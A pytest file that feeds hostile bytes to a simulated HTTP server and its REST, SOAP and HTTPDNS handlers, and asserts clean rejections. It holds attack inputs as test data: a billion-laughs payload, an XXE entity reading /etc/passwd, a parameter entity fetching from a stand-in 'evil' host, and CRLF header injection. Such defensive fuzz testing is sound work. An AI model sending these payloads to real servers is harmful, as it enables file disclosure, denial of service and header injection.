"""The HTTP/1.x server engine against hostile clients, and its own keep-alive timer:
whatever bytes come, it answers as nginx would (400, 413 or 505, then a close) or
serves the request; the REST, SOAP and HTTPDNS handlers behind it take any body
without breaking (deep JSON, entities, odd encodings) — nothing a client sends
raises out of the engine."""

import json
import re

import pytest

from netsim.proto.http import Answered, HttpServerConnection, Site, resource_from_spec
from netsim.proto.http.httpdns import HttpDnsService
from netsim.proto.http.rest import MAX_DEPTH, RestApi
from netsim.proto.http.server import MAX_BODY
from netsim.proto.http.soap import NAMESPACE, WeatherService, call_envelope, read_wsdl
from netsim.proto.stream import Close, Send
from netsim.units import parse_size, parse_time

SITE = {"/": {"body": "hello", "last_modified": "0s", "etag": "auto"},
        "/form": {"body": "ok", "methods": ["GET", "POST"]}}


def site():
    return {"*": Site("www", {p: resource_from_spec(p, s, parse_time, parse_size)
                              for p, s in SITE.items()})}


def feed(engine, *pieces, now=1.0):
    """Hand the engine each piece; its outputs, in order."""
    engine.start(0.0)
    out = []
    for piece in pieces:
        engine.receive(piece, now)
        out += engine.outputs()
    return out


def answers(out):
    """The status lines of every Send, and whether a Close came after them."""
    data = b"".join(o.data for o in out if isinstance(o, Send))
    lines = [line.decode() for line in re.findall(rb"HTTP/1\.1 [0-9]{3} [^\r]*", data)]
    return lines, any(isinstance(o, Close) for o in out)


def request(method="GET", target="/", headers=(), body=b""):
    head = f"{method} {target} HTTP/1.1\r\nHost: www\r\n" + "".join(
        f"{k}: {v}\r\n" for k, v in headers)
    if body:
        head += f"Content-Length: {len(body)}\r\n"
    return head.encode() + b"\r\n" + body


# -- the keep-alive timer ------------------------------------------------------------------

def test_the_idle_timer_closes_keep_alive_seconds_after_the_last_bytes_received():
    engine = HttpServerConnection(site(), keep_alive=5.0)
    engine.start(1.0)
    assert engine.get_timer() == 6.0
    engine.receive(request(), 2.0)
    assert answers(engine.outputs()) == (["HTTP/1.1 200 OK"], False)
    assert engine.get_timer() == 7.0                  # counted again from the request
    engine.receive(b"GET / HT", 3.0)                  # half a request is not idleness
    assert engine.get_timer() == 8.0
    engine.handle_timer(7.5)                          # a stale alarm does nothing
    assert engine.outputs() == []
    engine.handle_timer(8.0)
    assert engine.outputs() == [Close()]              # no answer: nginx closes silently
    assert engine.get_timer() is None


def test_no_idle_timer_while_the_driver_waits_to_write_an_answer():
    engine = HttpServerConnection(site(), keep_alive=1.0)
    feed(engine, request())
    engine.pause_writing(1.2)                          # a big answer fills the send buffer
    assert engine.get_timer() is None
    engine.resume_writing(4.0)                         # all in the send buffer at 4 s
    assert engine.get_timer() == 5.0


def test_a_read_is_answered_in_one_write_after_its_access_log_entries():
    engine = HttpServerConnection(site())
    out = feed(engine, request() + request(target="/nope") + request(target="/form"))
    kinds = [type(o).__name__ for o in out]
    assert kinds == ["Answered", "Answered", "Answered", "Send"]
    assert [o.status for o in out[:3]] == [200, 404, 200]
    assert out[1] == Answered("GET", "/nope", "1.1", 404)


# -- what nginx answers a hostile client ---------------------------------------------------

HOSTILE = {
    "Content-Length of 21 digits": request("POST", "/form", [("Content-Length", "9" * 21)]),
    "negative Content-Length": request("POST", "/form", [("Content-Length", "-1")]),
    "Content-Length in Unicode digits": request("POST", "/form", [("Content-Length", "²")]),
    "two different Content-Lengths": request("POST", "/form", [("Content-Length", "1"),
                                                               ("Content-Length", "2")]),
    "chunk size not hex": request("POST", "/form", [("Transfer-Encoding", "chunked")])
    + b"zz\r\nhello\r\n0\r\n\r\n",
    "chunk size of 21 hex digits": request("POST", "/form", [("Transfer-Encoding", "chunked")])
    + b"f" * 21 + b"\r\n",
    "a 100 KB request line": b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: www\r\n\r\n",
    "100 KB of headers": b"GET / HTTP/1.1\r\n" + b"X-A: b\r\n" * 12_500 + b"\r\n",
    "non-ASCII in the target": "GET /é HTTP/1.1\r\nHost: www\r\n\r\n".encode(),
    "a NUL in the target": b"GET /\x00 HTTP/1.1\r\nHost: www\r\n\r\n",
    "binary junk": bytes(range(256)) * 4,
    "a space before the colon": b"GET / HTTP/1.1\r\nHost : www\r\n\r\n",
}


@pytest.mark.parametrize("bytes_", HOSTILE.values(), ids=HOSTILE.keys())
def test_bytes_h11_rejects_get_400_and_a_close(bytes_):
    engine = HttpServerConnection(site())
    out = feed(engine, bytes_)
    assert answers(out) == (["HTTP/1.1 400 Bad Request"], True)
    assert engine.log[-1] == Answered("?", "?", "?", 400)
    assert engine.closed
    assert feed(engine, request()) == []              # nothing more is read


def test_bytes_split_anywhere_are_the_same_request():
    data = request("POST", "/form", body=b"a=1")
    for cut in range(1, len(data)):
        engine = HttpServerConnection(site())
        assert answers(feed(engine, data[:cut], data[cut:])) == (["HTTP/1.1 200 OK"], False)


def test_a_body_announced_larger_than_the_limit_is_413_before_it_is_sent():
    engine = HttpServerConnection(site())
    out = feed(engine, request("POST", "/form", [("Content-Length", str(MAX_BODY + 1))]))
    assert answers(out) == (["HTTP/1.1 413 Content Too Large"], True)
    assert engine.log == [Answered("POST", "/form", "1.1", 413)]


def test_a_chunked_body_that_grows_past_the_limit_is_413():
    engine = HttpServerConnection(site())
    chunk = b"%x\r\n%s\r\n" % (1 << 16, b"x" * (1 << 16))
    out = feed(engine, request("POST", "/form", [("Transfer-Encoding", "chunked")]),
               *[chunk] * 17)
    assert answers(out) == (["HTTP/1.1 413 Content Too Large"], True)


def test_http_2_on_an_http_1_port_is_505():
    engine = HttpServerConnection(site())
    out = feed(engine, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    assert answers(out) == (["HTTP/1.1 505 HTTP Version Not Supported"], True)


def test_a_date_with_a_year_no_datetime_holds_is_no_date():
    # If-Modified-Since: year 99999999999 raised OverflowError out of the engine.
    engine = HttpServerConnection(site())
    out = feed(engine, request(headers=[("If-Modified-Since",
                                         "Mon, 01 Jan 99999999999 00:00:00 GMT")]))
    assert answers(out) == (["HTTP/1.1 200 OK"], False)


def test_a_bad_request_after_a_good_one_in_the_same_read_gets_both_answers():
    engine = HttpServerConnection(site())
    out = feed(engine, request() + b"GARBAGE\r\n\r\n")
    assert answers(out) == (["HTTP/1.1 200 OK", "HTTP/1.1 400 Bad Request"], True)


# -- REST ----------------------------------------------------------------------------------

def rest():
    return RestApi({"users": [{"id": 6, "name": "alice", "cars": [{"id": 88, "model": "X"}]}]})


def call(api, method, target, body=b""):
    engine = HttpServerConnection({"*": api})
    out = feed(engine, request(method, target, [("Content-Type", "application/json")], body))
    data = b"".join(o.data for o in out if isinstance(o, Send))
    head, _, payload = data.partition(b"\r\n\r\n")
    status = int(head.split(b" ")[1])
    return status, head.decode(), json.loads(payload) if payload else None


@pytest.mark.parametrize("body", [b"[" * 100_000, b'{"a":' * 100_000, b'{"name":"x","a":' * 70,
                                  b'[{"a":[' * 30_000],
                         ids=["100k arrays", "100k objects", "70 levels", "mixed"])
def test_json_nested_deeper_than_the_limit_is_422_not_a_recursion_error(body):
    status, _head, answer = call(rest(), "POST", "/v1/users", body)
    assert status == 422 and "nests deeper" in answer["error"]


def test_brackets_inside_strings_are_not_nesting():
    status, _h, answer = call(rest(), "POST", "/v1/users",
                              json.dumps({"name": "[" * 500 + "{" * 500}).encode())
    assert status == 201 and answer["name"] == "[" * 500 + "{" * 500


def test_what_the_api_stores_stays_shallow_enough_to_write_out():
    api = rest()
    body = b'{"name":"x","a":' * (MAX_DEPTH - 4) + b"1" + b"}" * (MAX_DEPTH - 4)
    status, _h, _a = call(api, "POST", "/v1/users", body)
    assert status == 201
    json.dumps(api.data)                                # the summary writes it


@pytest.mark.parametrize("body", [b'{"name": NaN}', b'{"name": Infinity}', b'{"name": 1e999}',
                                  b'{"name": ' + b"9" * 5000 + b"}", b'\xff\xfe{"name": 1}',
                                  b'"\\"' * 10_000, b"[1, 2]", b""])
def test_a_body_that_is_not_a_json_object_is_422(body):
    status, _h, answer = call(rest(), "POST", "/v1/users", body)
    assert status == 422 and answer["error"] == "the body must be a JSON object"


def test_a_sub_collection_holds_items_only():
    # PUT cars: [1, 2] and then GET /users/6/cars/1 raised AttributeError ('int' .get).
    api = rest()
    status, _h, answer = call(api, "PUT", "/v1/users/6", b'{"name": "a", "cars": [1, 2]}')
    assert status == 422 and answer["error"] == "cars must be a list of objects (a sub-collection)"
    status, _h, _a = call(api, "PATCH", "/v1/users/6", b'{"cars": [{"id": 3, "tyres": [null]}]}')
    assert status == 422
    assert call(api, "GET", "/v1/users/6/cars/88")[0] == 200


@pytest.mark.parametrize("ident", ["é", "a\r\nSet-Cookie: x=1", "a/b", "50%"])
def test_an_id_of_any_text_is_percent_encoded_in_location_and_found_again(ident):
    # 'é' raised UnicodeEncodeError and a CRLF LocalProtocolError from h11's header check.
    api = rest()
    status, head, _a = call(api, "POST", "/v1/users",
                            json.dumps({"name": "b", "id": ident}).encode())
    location = next(line.split(": ", 1)[1] for line in head.split("\r\n")
                    if line.startswith("Location: "))
    assert status == 201 and location.isascii() and "\r" not in location
    status, _h, answer = call(api, "GET", location)
    assert status == 200 and answer["id"] == ident


@pytest.mark.parametrize("ident", ["true", "[1]", '{"a": 1}', "null"])
def test_an_id_is_a_number_or_a_string(ident):
    status, _h, answer = call(rest(), "POST", "/v1/users", b'{"name": "b", "id": %s}'
                              % ident.encode())
    assert status == 422 and answer["error"] == "an id must be a number or a string"
    assert call(rest(), "POST", "/v1/users", b'{"name": "b", "id": 1.5e3}')[0] == 201


# -- SOAP ----------------------------------------------------------------------------------

LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                     for i in range(1, 10))
          + b"]><lolz>&lol9;</lolz>")


def soap(body, action="GetWeather"):
    service = WeatherService({"Beijing": {"weather": "sunny"}}, host="weather")
    engine = HttpServerConnection({"*": service})
    out = feed(engine, request("POST", "/WeatherWS.asmx",
                               [("Content-Type", "text/xml; charset=utf-8"),
                                ("SOAPAction", f'"{NAMESPACE}/{action}"')], body))
    data = b"".join(o.data for o in out if isinstance(o, Send))
    return int(data.split(b" ")[1]), data.partition(b"\r\n\r\n")[2].decode("utf-8", "replace")


GOOD = call_envelope(NAMESPACE, "GetWeather", {"theCityCode": "Beijing"})
XML_CASES = {
    "billion laughs": (LAUGHS, "a DTD is prohibited"),
    "an external entity": (b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
                           "a DTD is prohibited"),
    "a parameter entity": (b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/x">%p;]><x/>',
                           "a DTD is prohibited"),
    "a processing instruction": (GOOD.replace(b"<soap:Body>", b"<soap:Body><?php x?>"),
                                 "a processing instruction is prohibited"),
    "rot13 declared": (GOOD.replace(b'encoding="utf-8"', b'encoding="rot13"'), "<city>Beijing"),
    "utf-7 declared": (GOOD.replace(b'encoding="utf-8"', b'encoding="utf-7"'), "<city>Beijing"),
    "an unknown encoding": (GOOD.replace(b'encoding="utf-8"', b'encoding="bogus"'),
                            "<city>Beijing"),
    "latin-1 bytes": (GOOD.replace(b"Beijing", b"B\xe9ijing"), "the request is not XML"),
    "100k levels deep": (b"<a>" * 100_000 + b"</a>" * 100_000, "not a SOAP 1.1 envelope"),
    "not closed": (GOOD[:-30], "the request is not XML"),
}


@pytest.mark.parametrize("body, says", XML_CASES.values(), ids=XML_CASES.keys())
def test_hostile_xml_is_a_client_fault_or_is_read_as_utf_8(body, says):
    # rot13, utf-7 and bogus encodings raised LookupError/ValueError out of expat.
    status, text = soap(body)
    assert says in text
    assert status == (200 if says.startswith("<city>") else 500)
    if status == 500:
        assert "<faultcode>soap:Client</faultcode>" in text


def test_a_wsdl_whose_names_have_quotes_is_read_without_an_xpath_error():
    wsdl = WeatherService({}).wsdl().replace(b'name="GetWeather"', b"name=\"Get'Weather\"")
    assert "Get'Weather" in read_wsdl(wsdl)["operations"]


# -- HTTPDNS -------------------------------------------------------------------------------

@pytest.mark.parametrize("target", ["/d?dn=%ff%fe", "/d?dn=" + "a." * 2000, "/d?dn=a&dn=b&type=",
                                    "/d?%%%&&==", "/d?dn=%00", "/d;x?dn=a"])
def test_httpdns_answers_any_query(target):
    engine = HttpServerConnection({"*": HttpDnsService({"a": ["10.0.0.1"]})})
    lines, closed = answers(feed(engine, request("GET", target)))
    assert len(lines) == 1 and not closed
